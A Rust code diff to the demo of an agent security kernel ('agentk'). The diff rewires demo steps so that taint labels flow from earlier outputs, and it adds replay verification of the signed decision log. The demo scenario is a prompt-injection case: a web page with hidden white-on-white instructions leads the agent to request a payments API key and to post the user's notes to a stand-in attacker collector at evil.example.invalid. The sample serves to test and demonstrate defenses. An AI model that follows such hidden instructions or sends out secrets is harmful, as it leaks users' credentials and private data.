@@ -5,7 +5,7 @@
 
 use std::io::Write;
 
-use agentk_labels::{Label, LabelSet, Outcome, SafeText, Syscall, SyscallKind, propagate};
+use agentk_labels::{Label, LabelSet, SafeText, Syscall};
 use std::path::{Path, PathBuf};
 use std::sync::Arc;
 
@@ -23,7 +23,10 @@ struct Step {
     story: &'static str,
     syscall: Syscall,
     target: &'static str,
-    labels: LabelSet,
+    /// Labels of fresh content the step brings in, if any.
+    fresh: Option<LabelSet>,
+    /// Earlier steps (by index) whose outputs it consumes.
+    consumes: &'static [usize],
     grant: Option<&'static str>,
 }
 
@@ -35,47 +38,50 @@ struct StepReport<'a> {
     explanation: &'a Explanation,
 }
 
-/// The flow. Labels are not typed in by hand: each step's input is the propagated output of
-/// the steps it consumes, which is how taint reaches the later, dangerous requests (P7).
+/// The flow. Labels are not typed in by hand after the first step: each step consumes the
+/// outputs of the steps before it, with the labels the kernel gave them, and names them in
+/// its inputs (`from`), which is how taint reaches the later, dangerous requests (P7) and how
+/// `agentk fork-replay-behavior` can follow a changed output downstream.
 fn steps() -> Vec<Step> {
-    let page_source = LabelSet::from_labels(&[Label::Untrusted, Label::External]);
-    let page = propagate(&SyscallKind::Known(Syscall::ContextRead), page_source, Outcome::Ok);
-    let notes = LabelSet::of(Label::Private);
-    let summary = propagate(&SyscallKind::Known(Syscall::ModelCall), page | notes, Outcome::Ok);
     vec![
         Step {
             story: "the agent reads a news page that hides instructions in white-on-white text",
             syscall: Syscall::ContextRead,
             target: "https://news.example.invalid/article",
-            labels: page_source,
+            fresh: Some(LabelSet::from_labels(&[Label::Untrusted, Label::External])),
+            consumes: &[],
             grant: None,
         },
         Step {
             story: "the model summarises the page together with the user's private notes",
             syscall: Syscall::ModelCall,
             target: "model://assistant.example.invalid/default",
-            labels: page | notes,
+            fresh: Some(LabelSet::of(Label::Private)),
+            consumes: &[0],
             grant: None,
         },
         Step {
             story: "the hidden instructions ask for the payments API key",
             syscall: Syscall::SecretOpen,
             target: "secret://payments-api",
-            labels: summary,
+            fresh: None,
+            consumes: &[1],
             grant: None,
         },
         Step {
             story: "they ask to post the notes to the attacker's collector",
             syscall: Syscall::NetworkSend,
             target: "https://evil.example.invalid/collect",
-            labels: summary,
+            fresh: None,
+            consumes: &[1],
             grant: None,
         },
         Step {
             story: "they ask to run the docs search tool with the summary, presenting a real grant",
             syscall: Syscall::ToolInvoke,
             target: "mcp://docs.example.invalid/search",
-            labels: summary,
+            fresh: None,
+            consumes: &[1],
             grant: Some("demo-docs-search"),
         },
     ]
@@ -104,6 +110,8 @@ pub(crate) struct DemoLog {
     path: PathBuf,
     events: u64,
     signed: u64,
+    /// Decisions replay reproduced.
+    reproduced: u64,
 }
 
 /// Opens `dir/latest.jsonl` afresh (the previous demo log is replaced) and a salt beside it.
@@ -162,6 +170,7 @@ pub(crate) fn run(
     stream.fill(&mut salt);
     stream.fill(&mut log_id);
     let (path, log) = open_log(log_dir, &salt)?;
+    let policy_text_copy = Arc::clone(&policy_text);
     let parts = KernelParts {
         policy_text,
         policy: Arc::clone(&policy),
@@ -176,9 +185,19 @@ pub(crate) fn run(
     let mut kernel = Kernel::open(parts, log)?;
     let salt = EvidenceSalt::from_bytes(salt);
     let mut explained: Vec<Explanation> = Vec::with_capacity(steps.len());
+    // Each step's position in the log and its output's labels (none when denied).
+    let mut outputs: Vec<(u64, Option<LabelSet>)> = Vec::with_capacity(steps.len());
     for step in &steps {
         // The content is a dummy; only its labels and keyed digest reach the log.
-        let inputs = [salt.input(step.labels, step.story.as_bytes())];
+        let fresh = step.fresh.map(|labels| salt.input(labels, step.story.as_bytes()));
+        let consumed = step.consumes.iter().filter_map(|&i| match outputs.get(i) {
+            Some(&(seq, Some(labels))) => {
+                Some(salt.input(labels, format!("output of step {seq}").as_bytes()).output_of(seq))
+            }
+            _ => None,
+        });
+        let inputs: Vec<_> = fresh.into_iter().chain(consumed).collect();
+        let seq = kernel.events();
         let request = SyscallRequest {
             agent: AGENT,
             syscall: step.syscall.into(),
@@ -187,11 +206,20 @@ pub(crate) fn run(
             grant: step.grant,
         };
         let outcome = kernel.syscall(&request)?;
+        outputs.push((seq, outcome.output_labels));
         explained.push(outcome.explanation);
     }
     drop(kernel.close()?);
     let verified = verify_file(&path).map_err(|_| CliError::DemoLogUnverified)?;
-    let recorded = DemoLog { path, events: verified.events(), signed: verified.signed_events() };
+    // Replay it too: every decision must come out the same, with no side effects (R1).
+    let file = std::fs::File::open(&path).map_err(|_| CliError::DemoLogUnverified)?;
+    let replayed = agentk_replay::replay(file, &policy_text_copy, &policy, agentk_replay::Options::default())
+        .map_err(|_| CliError::DemoLogUnverified)?;
+    if !replayed.reproduced_all() {
+        return Err(CliError::DemoLogUnverified);
+    }
+    let recorded =
+        DemoLog { path, events: verified.events(), signed: verified.signed_events(), reproduced: replayed.reproduced };
     report(&policy, &steps, &explained, &recorded, json, out)
 }
 
@@ -223,6 +251,7 @@ fn report(
                 "events": recorded.events,
                 "signed_events": recorded.signed,
                 "verified": true,
+                "replay_reproduced": recorded.reproduced,
             },
         });
         writeln!(out, "{value}")?;
@@ -247,6 +276,11 @@ fn report(
         SafeText::with_limit(&recorded.path.display().to_string(), 256),
         recorded.signed
     )?;
-    writeln!(out, "Check it yourself: agentk verify {}", recorded.path.display())?;
+    writeln!(
+        out,
+        "Replayed without side effects: all {} decisions reproduced under the same policy.",
+        recorded.reproduced
+    )?;
+    writeln!(out, "Check it yourself: agentk verify {0}; agentk replay {0}", recorded.path.display())?;
     Ok(exit::OK)
 }
